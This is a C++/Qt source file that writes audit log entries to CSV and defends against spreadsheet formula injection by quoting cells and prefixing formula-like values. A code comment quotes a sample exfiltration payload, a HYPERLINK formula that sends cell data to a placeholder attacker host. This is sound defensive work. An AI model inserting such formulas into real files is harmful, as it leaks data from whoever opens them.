// SPDX-License-Identifier: GPL-3.0-or-later
#include "models/audit/auditcsv.h"

#include <QStringList>

namespace OpsDeck {

namespace {

// CSV formula injection ("CSV injection", OWASP): Excel, LibreOffice Calc and Google Sheets
// evaluate a cell that starts with = + - or @ as a formula, and some also do so after a leading
// tab or CR, or after blanks and quotes they skip. A logged command such as
// `=HYPERLINK("https://evil.example/?"&A1)` or `@SUM(...)` would then run in the spreadsheet of
// whoever opens the export. Every cell that could be read so therefore gets a leading single
// quote, which spreadsheets take as "this cell is text": whatever its column, also cells this
// file formats itself (a negative number becomes text, the price of one rule for all). Scripts
// reading the file see the quote too; that is the price of a safe default.
bool isFormulaStart(QChar c)
{
    return c == u'=' || c == u'+' || c == u'-' || c == u'@';
}

QString defuseFormula(const QString &text)
{
    if (text.isEmpty())
        return text;
    if (text.front() == u'\t' || text.front() == u'\r')
        return u'\'' + text;
    qsizetype start = 0;
    while (start < text.size() &&
           (text.at(start).isSpace() || text.at(start) == u'"' || text.at(start) == u'\''))
        ++start;
    if (start < text.size() && isFormulaStart(text.at(start)))
        return u'\'' + text;
    return text;
}

// RFC 4180, 2.6 and 2.7. Also quoted: cells with a semicolon or a tab, which spreadsheets in
// many locales (German Excel: ';') take as the separator, so that text after it would become a
// cell of its own, one that could start with '='.
QString csvField(const QString &value)
{
    const bool needsQuotes = value.contains(u',') || value.contains(u'"') ||
                             value.contains(u'\r') || value.contains(u'\n') ||
                             value.contains(u';') || value.contains(u'\t');
    if (!needsQuotes)
        return value;
    QString quoted = value;
    quoted.replace(u'"', QStringLiteral("\"\""));
    return u'"' + quoted + u'"';
}

// Every cell goes through here.
QString cell(const QString &text)
{
    return csvField(defuseFormula(text));
}

QString timeField(const QDateTime &time)
{
    return time.isValid() ? time.toUTC().toString(Qt::ISODateWithMs) : QString();
}

template<typename T>
QString numberField(const std::optional<T> &value)
{
    return value ? QString::number(*value) : QString();
}

constexpr QStringView LineEnd = u"\r\n";

} // namespace

QString auditEntriesToCsv(const QList<AuditEntry> &entries)
{
    QString csv = QStringLiteral("started_at,finished_at,host,remote_user,command,risk,status,"
                                 "exit_code,signal,duration_ms,output_bytes,incident_id") +
                  LineEnd;
    for (const AuditEntry &entry : entries) {
        const QStringList fields{
            timeField(entry.startedAt),
            timeField(entry.finishedAt),
            entry.host,
            entry.remoteUser,
            entry.command,
            riskId(entry.risk),
            auditStatusName(entry.status),
            numberField(entry.exitCode),
            entry.signalName,
            numberField(entry.durationMs),
            numberField(entry.outputBytes),
            numberField(entry.incidentId),
        };
        QStringList cells;
        cells.reserve(fields.size());
        for (const QString &field : fields)
            cells.append(cell(field));
        csv += cells.join(u',') + LineEnd;
    }
    return csv;
}

} // namespace OpsDeck
